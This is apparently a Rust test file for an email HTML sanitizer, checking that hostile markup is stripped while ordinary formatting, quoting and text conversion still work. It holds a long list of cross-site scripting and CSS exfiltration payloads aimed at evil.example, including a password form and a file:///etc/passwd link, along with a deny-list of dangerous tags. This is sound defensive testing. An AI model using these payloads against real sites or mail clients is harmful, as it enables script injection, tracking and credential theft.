//! Hostile and ordinary HTML, as it comes out.
#![expect(clippy::unwrap_used, reason = "a test that cannot prepare its case has failed")]

use mail::html::{CleanHtml, ImagePolicy, clean, from_text, to_text};

fn cleaned(html: &str) -> CleanHtml {
    clean(html, |id| (id == "logo@x").then(|| "/attachments/1".to_owned()), ImagePolicy::HoldBack)
}

#[test]
fn nothing_of_a_hostile_mail_can_run_load_or_leave() {
    let attacks = [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<img src=x onerror=alert(1)>",
        "<img src='x' OnErRoR='alert(1)'>",
        "<img/src=x/onerror=alert(1)>",
        "<svg onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
        "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
        "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'></svg>",
        "<svg><style><img src=x onerror=alert(1)></style></svg>",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
        "<math><mi xlink:href='data:x,<script>alert(1)</script>'>x</mi></math>",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
        "<textarea><script>alert(1)</script></textarea>",
        "<title><script>alert(1)</script></title>",
        "<template><script>alert(1)</script></template>",
        "<xmp><script>alert(1)</script></xmp>",
        "<plaintext><script>alert(1)</script>",
        "<iframe src='javascript:alert(1)'></iframe>",
        "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
        "<object data='data:text/html,<script>alert(1)</script>'></object>",
        "<embed src='javascript:alert(1)'>",
        "<applet code=x></applet>",
        "<base href='https://evil.example/'>",
        "<meta http-equiv=refresh content='0;url=https://evil.example'>",
        "<link rel=stylesheet href=https://evil.example/x.css>",
        "<a href='javascript:alert(1)'>x</a>",
        "<a href='JaVaScRiPt:alert(1)'>x</a>",
        "<a href=' javascript:alert(1)'>x</a>",
        "<a href='java\tscript:alert(1)'>x</a>",
        "<a href='java\nscript:alert(1)'>x</a>",
        "<a href='&#106;avascript:alert(1)'>x</a>",
        "<a href='&#x6A&#x61vascript:alert(1)'>x</a>",
        "<a href='\u{1}javascript:alert(1)'>x</a>",
        "<a href='vbscript:msgbox(1)'>x</a>",
        "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
        "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
        "<a href='cid:logo@x'>x</a>",
        "<a href='file:///etc/passwd'>x</a>",
        "<a href=x ping='https://evil.example'>x</a>",
        "<form action='https://evil.example'><input name=password><button>Go</button></form>",
        "<button formaction='javascript:alert(1)'>x</button>",
        "<input autofocus onfocus=alert(1)>",
        "<select autofocus onfocus=alert(1)><option>x</select>",
        "<details open ontoggle=alert(1)>x</details>",
        "<video><source onerror=alert(1)></video>",
        "<video poster='javascript:alert(1)'></video>",
        "<audio src=x onerror=alert(1)>",
        "<body onload=alert(1)>x</body>",
        "<body background='https://evil.example/x.png'>x</body>",
        "<table background='https://evil.example/x.png'><tr><td background='https://evil.example/y.png'>x</table>",
        "<img src='data:image/svg+xml;base64,PHN2Zy8+'>",
        "<img src='data:text/html,<script>alert(1)</script>'>",
        "<img srcset='https://evil.example/x.png 2x'>",
        "<picture><source srcset='https://evil.example/x.png'></picture>",
        "<img lowsrc='https://evil.example/x.png'>",
        "<img src='//evil.example/x.png'>",
        "<img src='/api/v1/secret'>",
        "<p style='background:url(https://evil.example/x)'>x</p>",
        "<p style='background:u\\72l(https://evil.example/x)'>x</p>",
        "<p style='background:URL(\"https://evil.example/x\")'>x</p>",
        "<p style='background-image:url(https://evil.example/x)'>x</p>",
        "<p style='background:image-set(\"https://evil.example/x\" 1x)'>x</p>",
        "<p style='border-image:url(https://evil.example/x)'>x</p>",
        "<p style='list-style:url(https://evil.example/x)'>x</p>",
        "<p style='content:url(https://evil.example/x)'>x</p>",
        "<p style='cursor:url(https://evil.example/x),auto'>x</p>",
        "<p style='font-family:x;src:url(https://evil.example/x)'>x</p>",
        "<p style='@import \"https://evil.example/x.css\"'>x</p>",
        "<p style='width:expression(alert(1))'>x</p>",
        "<p style='width:expr/**/ession(alert(1))'>x</p>",
        "<p style='behavior:url(x.htc)'>x</p>",
        "<p style='-moz-binding:url(https://evil.example/x.xml#x)'>x</p>",
        "<p style='position:fixed;top:0;left:0'>x</p>",
        "<p style='position:absolute'>x</p>",
        "<p style='POSITION:\\66ixed'>x</p>",
        "<p style='margin-top:-500px'>x</p>",
        "<p style='transform:scale(100)'>x</p>",
        "<p style='animation:x 1s'>x</p>",
        "<p style='--x:url(https://evil.example/x);background:var(--x)'>x</p>",
        "<p style='filter:url(https://evil.example/x.svg#f)'>x</p>",
        "<p style='font:12px \"</style><script>alert(1)</script>\"'>x</p>",
        "<style>@import 'https://evil.example/x.css'; input[value^=a]{background:url(https://evil.example/a)}</style>",
        "<style><!--</style><script>alert(1)</script>--></style>",
        "<!--[if IE]><script>alert(1)</script><![endif]-->",
        "<!--><script>alert(1)</script>-->",
        "<![CDATA[<script>alert(1)</script>]]>",
        "<?xml version='1.0'?><script>alert(1)</script>",
        "<p title='\"><script>alert(1)</script>'>x</p>",
        "<p title='x\" onmouseover=\"alert(1)'>x</p>",
        "<p class='ts-quoted' id='app' onclick=alert(1)>x</p>",
        "<a name=x id=__proto__ href='https://ok.example'>x</a>",
        "<div contenteditable onblur=alert(1)>x</div>",
        "<marquee onstart=alert(1)>x</marquee>",
        "<isindex type=image src=1 onerror=alert(1)>",
        "<frameset onload=alert(1)><frame src=x></frameset>",
        "<portal src='https://evil.example'></portal>",
        "<slot></slot><custom-element onclick=alert(1)>x</custom-element>",
        "\u{feff}<script>alert(1)</script>",
        "<img src=\"https://evil.example/x.png\" alt=\"a<b onerror=alert(1)>\">",
    ];
    assert!(attacks.len() >= 60);
    for attack in attacks {
        let html = cleaned(attack).html;
        let tags: String = tags_of(&html);
        for forbidden in [
            "<script",
            "<svg",
            "<math",
            "<iframe",
            "<object",
            "<embed",
            "<form",
            "<input",
            "<style",
            "<link",
            "<meta",
            "<base",
            "<video",
            "<audio",
            "<source",
            "<button",
            "javascript:",
            "vbscript:",
            "data:text",
            "svg+xml",
            " on",
            "url(",
            "@import",
            "expression",
            "fixed",
            "absolute",
            "behavior",
            "binding",
            "srcset",
            "background=",
            "poster",
            "action",
            "ping=",
            "id=",
            "name=",
            "-500px",
            "file:",
            "var(",
            " src=\"http",
            " src=\"/",
            "transform",
            "animation",
        ] {
            assert!(!tags.contains(forbidden), "{forbidden:?} is left of {attack}\n{html}");
        }
        // Cleaning again changes nothing, but for images, whose held-back address is then unknown.
        assert!(html.contains("<img") || cleaned(&html).html.len() == html.len(), "{attack}\n{html}");
    }
}

/// Only the tags, in lower case, without what people may write in `title` and `alt`. A `<` in an attribute
/// is escaped, so each one starts a tag.
fn tags_of(html: &str) -> String {
    let mut html = html.to_lowercase();
    for free_text in [" title=\"", " alt=\""] {
        while let Some(start) = html.find(free_text) {
            let value = start + free_text.len();
            let end = html[value..].find('"').map_or(html.len(), |length| value + length + 1);
            html.replace_range(start..end, "");
        }
    }
    html.split('<').skip(1).map(|piece| format!("<{}>", piece.split('>').next().unwrap())).collect()
}

#[test]
fn what_people_format_stays() {
    for (html, expected) in [
        ("<p>Merhaba <b>Ayşe</b></p>", "<p>Merhaba <b>Ayşe</b></p>"),
        ("<p dir=rtl>سلام</p>", "<p dir=\"rtl\">سلام</p>"),
        (
            "<font color=red size=2 face=Arial>x</font>",
            "<font color=\"red\" size=\"2\" face=\"Arial\">x</font>",
        ),
        (
            "<p style='color:red;FONT-SIZE:12PX !important'>x</p>",
            "<p style=\"color:red;font-size:12PX\">x</p>",
        ),
        (
            "<p style='color:rgb(1, 2, 3);background:#fff'>x</p>",
            "<p style=\"color:rgb(1, 2, 3);background:#fff\">x</p>",
        ),
        (
            "<a href='https://kargo.example/?a=1&b=2'>x</a>",
            "<a href=\"https://kargo.example/?a=1&amp;b=2\" target=\"_blank\" rel=\"noopener noreferrer nofollow\">x</a>",
        ),
        (
            "<table><tr><td colspan=2>x</table>",
            "<table><tbody><tr><td colspan=\"2\">x</td></tr></tbody></table>",
        ),
        ("1 &lt; 2 &amp; 3", "1 &lt; 2 &amp; 3"),
    ] {
        assert_eq!(cleaned(html).html, expected, "{html}");
    }
}

#[test]
fn remote_images_are_held_back_and_trackers_removed() {
    let html = "<img src='https://shop.example/a.png' alt=a><img src='http://t.example/o.gif' width=1 height=1>\
                <img src='https://t.example/o.gif' style='display:none'><img src='cid:logo@x'><img src='cid:other' alt=gone>\
                <img src='data:image/png;base64,AAAA'>";
    let held = cleaned(html);
    assert_eq!((held.remote_images, held.tracking_pixels), (1, 2));
    assert!(
        held.html.contains("data-ts-src=\"https://shop.example/a.png\"")
            && !held.html.contains("src=\"http:")
    );
    assert!(
        held.html.contains("src=\"/attachments/1\"")
            && held.html.contains("src=\"data:image/png;base64,AAAA\"")
    );

    let through = |address: &str| format!("/img?u={address}&sig=\"x");
    let proxied = clean(html, |_| None, ImagePolicy::Proxy(&through));
    assert!(
        proxied.html.contains("src=\"/img?u=https://shop.example/a.png&amp;sig=&quot;x\""),
        "{}",
        proxied.html
    );
    assert!(!proxied.html.contains("t.example"));
}

#[test]
fn quotes_of_mail_programs_can_be_folded() {
    let quoted = |html: &str| cleaned(html).html;
    for (html, expected) in [
        (
            "<div>yes</div><div class='gmail_quote'>On Monday<blockquote class=gmail_quote>old</blockquote></div>",
            "<div>yes</div><div class=\"ts-quoted\">On Monday<blockquote>old</blockquote></div>",
        ),
        (
            "yes<blockquote type=cite>old</blockquote>more",
            "yes<blockquote class=\"ts-quoted\">old</blockquote>more",
        ),
        (
            "<div>yes</div><hr><div id='divRplyFwdMsg'><b>From:</b> x</div><div>old</div>",
            "<div>yes</div><hr><div class=\"ts-quoted\"><div><b>From:</b> x</div><div>old</div></div>",
        ),
        (
            "<div><p>yes</p><div><div style='border:none;border-top:solid #E1E1E1 1.0pt;padding:3.0pt 0in 0in 0in'><p>From: x</p></div></div><p>old</p></div>",
            "<div><p>yes</p><div class=\"ts-quoted\"><div><div style=\"border:none;border-top:solid #E1E1E1 1.0pt;padding:3.0pt 0in 0in 0in\"><p>From: x</p></div></div><p>old</p></div></div>",
        ),
        ("<div class=yahoo_quoted>old</div>", "<div class=\"ts-quoted\">old</div>"),
        ("<blockquote>a poem</blockquote>", "<blockquote>a poem</blockquote>"),
    ] {
        assert_eq!(quoted(html), expected, "{html}");
    }
}

#[test]
fn html_becomes_readable_text() {
    for (html, text) in [
        ("<p>Merhaba</p><p>Siparişim nerede?</p>", "Merhaba\n\nSiparişim nerede?"),
        ("<div>one</div><div>two<br>three</div>", "one\ntwo\nthree"),
        ("a<style>p{}</style><script>x()</script>b", "ab"),
        ("<ul><li>one</li><li>two</li></ul>", "- one\n- two"),
        ("<blockquote>old</blockquote>", "> old"),
        ("<a href='https://x.example'>link</a> &amp; <b>bold</b>", "link & bold"),
        ("안녕&nbsp;하세요", "안녕 하세요"),
        ("<table><tr><td>a</td><td>b</td></tr></table>", "a\nb"),
        ("<img src=x alt='logo'>x", "logox"),
    ] {
        assert_eq!(to_text(html), text, "{html}");
    }
    assert_eq!(to_text(&from_text("1 < 2 & \"x\"\nb")), "1 < 2 & \"x\"\nb");
}

#[test]
fn html_that_would_take_forever_is_shown_as_text() {
    let deep = format!("{}deep{}", "<div>".repeat(200_000), "</div>".repeat(200_000));
    assert!(cleaned(&deep).html.contains("deep"));
    assert_eq!(to_text(&deep), "deep");
    let formatting = "<b><i><u><s>".repeat(50_000);
    assert!(cleaned(&formatting).html.len() < 100);
    let wide = "<p>x</p>".repeat(20_000);
    assert_eq!(to_text(&wide).lines().filter(|line| *line == "x").count(), 20_000);
    // Ampersands and attributes that would be compared with each other.
    let bare = "& ".repeat(300_000);
    assert_eq!(to_text(&bare).matches('&').count(), 300_000);
    assert_eq!(to_text("R&D &ouml;&#246; &copy 2026"), "R&D öö © 2026");
    let attributes: String = (0..100_000).map(|n| format!(" a{n}=b")).collect();
    assert_eq!(to_text(&format!("<p{attributes}>x</p>")), "x");
    // References in one text, at each of which all that follows would be looked through.
    let spaces = format!("<style>p {{}}</style><p>a&nbsp;b&lt;c{}<p>d", "&nbsp;".repeat(100_000));
    assert_eq!(to_text(&spaces), "a b<c\nd");
    assert!(cleaned(&spaces).html.contains("a b&lt;c"));
    // A drawing without content hides nothing of what follows it.
    let drawn = format!("<svg width='1'/><p>a<svg><text>b</text></svg>c{}", "<br>".repeat(120_000));
    assert_eq!(to_text(&drawn), "ac");
    // A log longer than anybody reads keeps its lines.
    let log = format!("<pre>{}</pre>", "a &lt; b\n".repeat(200_000));
    assert_eq!(to_text(&log).lines().filter(|line| *line == "a < b").count(), 200_000);
    // A table longer than anybody reads: its words are there, without its looks.
    let table = format!("<table>{}</table>", "<tr><td>x<td>y".repeat(50_000));
    assert_eq!(to_text(&table).lines().filter(|line| *line == "x y").count(), 50_000);
    // Formatting that would be opened again in each paragraph.
    let fonts: String = (0..400).map(|n| format!("<font size={n}>")).collect();
    assert_eq!(to_text(&format!("<p>{fonts}{}", "<p>x".repeat(50_000))).matches('x').count(), 50_000);
}
